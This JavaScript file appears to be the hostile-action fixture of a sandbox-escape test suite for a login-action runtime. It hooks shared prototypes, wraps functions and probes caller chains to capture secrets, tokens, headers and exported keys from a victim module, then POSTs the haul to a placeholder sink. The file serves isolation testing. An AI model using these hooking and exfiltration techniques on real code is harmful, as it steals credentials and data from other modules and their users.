// The hostile action of the escape corpus (escape_test.go). It pins the victim module and runs
// one route of routes.js, either at its top level before it requires the module or in its handler
// before it calls the module (escape_test.go puts the route's function in one of the two places
// marked below, and the URL of the action's own sink in the report). Then it calls
// victim.run(ARG) and reports everything the route's hooks captured (steal) and every error the
// route's attempts met (attempt), in an ID token claim, in its log and in a POST to its sink.
//
// Helpers the routes use:
//   steal(label, ...values)  keeps values for the report
//   attempt(label, fn)       runs fn, a change to something shared: an exception is recorded
//                            (the corpus wants TypeErrors), and so is a change that went through
//   read(label, fn)          runs fn, a read: its result is stolen, a refusal of any kind is fine
//   wrap(fn, label)          a function that steals this, its arguments and its result, then
//                            behaves as fn (also as a constructor)
//   spy(value, label)        a Proxy of an object or function that steals calls and writes
//   hookAll(obj, label)      attempts to replace, by assignment then by defineProperty, every
//                            own method, getter and setter of obj with a wrap of it
//   hookProto(proto, label)  hookAll, plus setters for common names, plus a set-trap Proxy as
//                            its [[Prototype]] (by __proto__ and by Object.setPrototypeOf)
//   trapNames                the property names modules commonly write
//   victim()                 require('actions:victim')
//   ARG                      the object passed to victim.run (a route may replace it)
//   probe(label)             (sloppy) walks the caller chain and the stack, stealing arguments
const orig = Object.freeze({
  J: JSON.stringify, apply: Reflect.apply, construct: Reflect.construct, ownKeys: Reflect.ownKeys,
  gopd: Object.getOwnPropertyDescriptor, defineProperty: Object.defineProperty, getPrototypeOf: Object.getPrototypeOf,
  setPrototypeOf: Object.setPrototypeOf, isView: ArrayBuffer.isView, String, Proxy, Set, Uint8Array, ArrayBuffer, Error,
  setHas: Set.prototype.has, setAdd: Set.prototype.add, push: Array.prototype.push, slice: String.prototype.slice,
  numToString: Number.prototype.toString, isArray: Array.isArray, fetch, Promise, then: Promise.prototype.then,
  Headers, URLSearchParams, Map, arrayFrom: Array.from, mapEntries: Map.prototype.entries, setValues: Set.prototype.values,
  get: Reflect.get, set: Reflect.set, reflectDefine: Reflect.defineProperty, has: Reflect.has, create: Object.create,
});

const stolen = [];
const errors = [];
let errorCount = 0;
const changed = []; // the attempts that went through
let changedCount = 0;

function steal(label, ...values) {
  orig.apply(orig.push, stolen, [[orig.String(label), values]]);
  return values[0];
}

function record(label, e) {
  'use strict';
  errorCount++;
  if (errors.length < 40) {
    let message;
    try { message = orig.apply(orig.slice, orig.String(e && e.message), [0, 300]); } catch (x) { message = '?'; }
    let name;
    try { name = orig.String(e && e.name); } catch (x) { name = '?'; }
    orig.apply(orig.push, errors, [{ label: orig.String(label), name, message }]);
  }
}

function attempt(label, f) {
  'use strict';
  try {
    const r = f();
    if (r && typeof r === 'object' && typeof r.then === 'function') return orig.apply(orig.then, r, [undefined, (e) => record(label, e)]);
    changedCount++;
    if (changed.length < 60) orig.apply(orig.push, changed, [orig.String(label)]);
    return r;
  } catch (e) {
    record(label, e);
  }
}

// read runs fn, a read of something the action may look at: what it gives is stolen, and a
// refusal (of any kind) is fine.
function read(label, f) {
  'use strict';
  try {
    const r = f();
    steal(label, r);
    return r;
  } catch (e) {
    steal(label + ' refused', orig.String(e && e.message));
  }
}

function wrap(fn, label) {
  'use strict';
  if (typeof fn !== 'function') return fn;
  const w = function (...args) {
    steal(label, this, args);
    const r = new.target ? orig.construct(fn, args, new.target === w ? fn : new.target) : orig.apply(fn, this, args);
    steal(label + ' =>', r);
    return r;
  };
  try { orig.defineProperty(w, 'name', { value: fn.name }); } catch (e) { /* a name is cosmetic */ }
  return w;
}

function spy(value, label) {
  'use strict';
  if (value === null || (typeof value !== 'object' && typeof value !== 'function')) return value;
  return new orig.Proxy(value, {
    get(t, k, r) {
      const v = orig.get(t, k, t);
      return typeof v === 'function' && k !== 'constructor' && k !== 'prototype' ? wrap(v, label + '.' + orig.String(typeof k === 'symbol' ? k.description : k)) : v;
    },
    set(t, k, v, r) { steal(label + ' set ' + orig.String(typeof k === 'symbol' ? k.description : k), v); return orig.set(t, k, v, t); },
    apply(t, self, args) { steal(label + '()', self, args); return orig.apply(t, self, args); },
    construct(t, args, nt) { steal('new ' + label, args); return orig.construct(t, args, nt === undefined ? t : nt); },
    defineProperty(t, k, d) { steal(label + ' define ' + orig.String(k), d && d.value); return orig.reflectDefine(t, k, d); },
  });
}

const keyName = (k) => typeof k === 'symbol' ? '@@' + orig.String(k.description) : orig.String(k);

function hookAll(obj, label) {
  'use strict';
  if (obj === null || (typeof obj !== 'object' && typeof obj !== 'function')) return;
  let keys = [];
  try { keys = orig.ownKeys(obj); } catch (e) { record(label + ' ownKeys', e); return; }
  for (let i = 0; i < keys.length; i++) {
    const k = keys[i];
    if (k === 'prototype' || k === 'caller' || k === 'arguments' || k === 'length' || k === 'name') continue;
    const name = label + '.' + keyName(k);
    let d;
    try { d = orig.gopd(obj, k); } catch (e) { continue; }
    if (!d) continue;
    if ('value' in d && typeof d.value === 'function') {
      attempt('assign ' + name, () => { obj[k] = wrap(d.value, name); });
      attempt('define ' + name, () => { orig.defineProperty(obj, k, { value: wrap(d.value, name) }); });
    } else if (d.get || d.set) {
      attempt('define accessor ' + name, () => {
        orig.defineProperty(obj, k, { get: d.get && wrap(d.get, name + ' get'), set: d.set && wrap(d.set, name + ' set') });
      });
    }
  }
}

const trapNames = ['client_secret', 'secret', 'key', 'k', 's', 'token', 'authorization', 'headers', 'body', 'password',
  'value', 'then', 'toJSON', 'stack', 'cause', 'message', 'detail', 'meta', 'reason', 'data', '0', '1', '2'];

// setterTrap is a set-trap Proxy over parent, to be made the [[Prototype]] of a shared object: an
// assignment to a name its instances lack reaches the trap.
function setterTrap(parent, label) {
  'use strict';
  return new orig.Proxy(parent || orig.create(null), {
    set(t, k, v, r) {
      steal(label + ' proto-set ' + keyName(k), v, r);
      return orig.reflectDefine(r, k, { value: v, writable: true, enumerable: true, configurable: true });
    },
  });
}

function hookProto(proto, label) {
  'use strict';
  if (proto === null || (typeof proto !== 'object' && typeof proto !== 'function')) return;
  hookAll(proto, label);
  for (let i = 0; i < trapNames.length; i++) {
    const n = trapNames[i];
    if (orig.gopd(proto, n)) continue;
    attempt('setter ' + label + '.' + n, () => {
      orig.defineProperty(proto, n, {
        set(v) {
          steal(label + ' setter ' + n, v, this);
          orig.defineProperty(this, n, { value: v, writable: true, enumerable: true, configurable: true });
        },
        configurable: true,
      });
    });
  }
  const parent = orig.getPrototypeOf(proto);
  attempt('__proto__ of ' + label, () => { proto.__proto__ = setterTrap(parent, label); });
  attempt('setPrototypeOf ' + label, () => { orig.setPrototypeOf(proto, setterTrap(parent, label)); });
}

// probe walks what a hook called by the module can see of its caller: the caller chain and its
// arguments (sloppy functions only), and the stack.
function probe(label) {
  try {
    let f = arguments.callee.caller;
    for (let i = 0; f && i < 12; i++) {
      steal(label + ' caller ' + i, f, f.arguments);
      f = f.caller;
    }
  } catch (e) { record(label + ' caller chain', e); }
  try { steal(label + ' stack', new orig.Error('probe').stack); } catch (e) { record(label + ' stack', e); }
}

function victim() { return require('actions:victim'); }

function defaultArg() {
  return { prefix: 'p', count: 1, user: { id: 'u1' }, label: 'L', extra: { e: 1 }, ready: Promise.resolve('r') };
}
let ARG = defaultArg();

// ---- the report ----
const hexDigits = '0123456789abcdef';
function hex(u8) {
  'use strict';
  let s = '';
  for (let i = 0; i < u8.length; i++) s += hexDigits[u8[i] >> 4] + hexDigits[u8[i] & 15];
  return s;
}

function ser(v, depth, seen, budget) {
  'use strict';
  if (budget.n-- <= 0) return '[budget]';
  switch (typeof v) {
    case 'string': return v;
    case 'number': case 'boolean': case 'bigint': case 'undefined': return orig.String(v);
    case 'symbol': return 'Symbol(' + orig.String(v.description) + ')';
  }
  if (v === null) return null;
  if (orig.apply(orig.setHas, seen, [v])) return '[seen]';
  orig.apply(orig.setAdd, seen, [v]);
  if (depth > 7) return '[deep]';
  const out = {};
  try { if (orig.isView(v)) out['#bytes'] = hex(new orig.Uint8Array(v.buffer, v.byteOffset, v.byteLength)); } catch (e) { /* not bytes */ }
  try { if (v instanceof orig.ArrayBuffer) out['#bytes'] = hex(new orig.Uint8Array(v)); } catch (e) { /* not bytes */ }
  try { if (typeof v === 'function') out['#fn'] = orig.String(v.name); } catch (e) { /* no name */ }
  // What a thief would do with the objects it got: export a key, list headers and forms.
  try { if (typeof v.export === 'function' && typeof v.symmetricKeySize !== 'undefined') out['#export'] = ser(v.export(), depth + 1, seen, budget); } catch (e) { out['#export'] = 'threw ' + e; }
  try {
    if (v instanceof orig.Headers || v instanceof orig.URLSearchParams) out['#entries'] = ser(orig.arrayFrom(v.entries()), depth + 1, seen, budget);
    else if (v instanceof orig.Map) out['#entries'] = ser(orig.arrayFrom(orig.apply(orig.mapEntries, v, [])), depth + 1, seen, budget);
    else if (v instanceof orig.Set) out['#entries'] = ser(orig.arrayFrom(orig.apply(orig.setValues, v, [])), depth + 1, seen, budget);
  } catch (e) { /* not iterable */ }
  try { if (typeof v !== 'function') out['#string'] = orig.String(v); } catch (e) { /* no string */ }
  let keys = [];
  try { keys = orig.ownKeys(v); } catch (e) { /* a revoked proxy */ }
  for (let i = 0; i < keys.length && i < 200; i++) {
    const k = keys[i];
    try {
      const d = orig.gopd(v, k);
      if (!d) continue;
      if ('value' in d) out[keyName(k)] = ser(d.value, depth + 1, seen, budget);
      else if (d.get) out[keyName(k) + '<get>'] = ser(orig.apply(d.get, v, []), depth + 1, seen, budget);
    } catch (e) { /* a throwing getter */ }
  }
  return out;
}

function runRoute(where, f) {
  'use strict';
  return attempt('route (' + where + ')', f);
}

async function report(api, result, runError) {
  'use strict';
  let text;
  try {
    text = orig.J({ stolen: ser(stolen, 0, new orig.Set(), { n: 20000 }), errors, errorCount, changed, changedCount, result, runError });
  } catch (e) {
    text = 'unserializable: ' + orig.String(e);
  }
  api.idToken.setCustomClaim('report', text);
  console.log(text);
  try {
    const res = await orig.fetch('__SINK_B__/action', { method: 'POST', body: text });
    api.idToken.setCustomClaim('sinkB', res.status);
  } catch (e) {
    api.idToken.setCustomClaim('sinkB', orig.String(e));
  }
}

// ---- the route at top level, before the module is required ----
runRoute('top', __ROUTE_TOP__);

const victimModule = require('actions:victim');

exports.onExecutePostLogin = async (event, api) => {
  await runRoute('handler', __ROUTE_HANDLER__);
  let result = null, runError = null;
  try {
    result = await victimModule.run(ARG);
  } catch (e) {
    runError = orig.String(e && e.stack || e);
  }
  await report(api, result, runError);
};
